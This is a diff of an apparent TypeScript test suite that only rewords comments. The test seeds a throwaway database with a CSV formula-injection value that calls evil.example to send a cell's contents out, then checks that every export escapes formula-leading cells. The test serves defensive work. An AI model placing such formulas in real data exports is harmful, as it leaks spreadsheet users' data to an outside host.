@@ -5,11 +5,11 @@ import { prepare } from '../../db/open.ts';
 import { archiveOf } from '../../testing/archives.ts';
 import { asOwner, testApp } from '../../testing/practice.ts';
 
-// Of its own: every table gets a row whose texts nobody could have written.
+// A database of its own, because every table gets rows with texts that no call would accept.
 const connection = { ...inject('postgres'), database: `hostile_${process.pid}` };
 await asOwner((owner) => owner.query(`create database ${connection.database}`));
 await prepare(connection);
-// What is named first ends last.
+// Hooks run in reverse order, so this runs last.
 afterAll(() => asOwner((owner) => owner.query(`drop database ${connection.database} with (force)`)));
 const { app, newPractice } = await testApp({}, connection);
 const { token, user } = await newPractice();
@@ -17,7 +17,7 @@ const { token, user } = await newPractice();
 const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
 const name = pg.escapeIdentifier;
 
-/** What a column gets, by its type: every text the formula, every number one that is negative. */
+/** The value for each column type: a formula for text, a negative number for numbers. */
 const values: Record<string, string> = {
   uuid: 'gen_random_uuid()',
   date: 'current_date',
@@ -35,7 +35,7 @@ const values: Record<string, string> = {
 
 beforeAll(() =>
   asOwner(async (owner) => {
-    // Past what the product would refuse: what is tried is the writing of cells.
+    // Skips the product's checks, because the test is about writing cells.
     await owner.query(`set session_replication_role = replica`);
     const { rows: checks } = await owner.query<{ name: string; table: string }>(
       `select conname as name, conrelid::regclass::text as table from pg_constraint
@@ -60,7 +60,7 @@ beforeAll(() =>
     );
     for (const [table, all] of Map.groupBy(columns, (column) => column.table)) {
       const given = all.map(({ column, type, word }) => {
-        // Always a list: the database itself reads it as one.
+        // Always a list, because the database's own functions read it as one.
         if (column === 'changes') return `'[]'`;
         if (column === 'practice_id') return `'${user.practice.id}'::uuid`;
         if (word !== '') return `'${word}'`;
@@ -98,7 +98,7 @@ test('no cell of any CSV of any export is a formula, and every text is there', a
   for (const file of Object.keys(practice.files)) {
     if (file.endsWith('.csv')) files.set(file, practice.read(file));
   }
-  // No export brings another one without being named here.
+  // A new file in an export has to be added here.
   expect([...files.keys()].filter((file) => !file.startsWith('csv/'))).toEqual(['audit']);
   expect(files.size).toBeGreaterThan(25);
 
@@ -109,7 +109,7 @@ test('no cell of any CSV of any export is a formula, and every text is there', a
       expect([file, row.length]).toEqual([file, heads.length]);
       for (const [at, cell] of row.entries()) {
         if (cell === `'${hostile}`) seen.add(`${file} ${heads[at]}`);
-        // A number is one, whatever its sign.
+        // A number stays a number, whatever its sign.
         if (/^-?\d+$/.test(cell)) continue;
         expect([file, heads[at], cell]).toEqual([file, heads[at], expect.not.stringMatching(/^[=+\-@\t\r]/)]);
       }
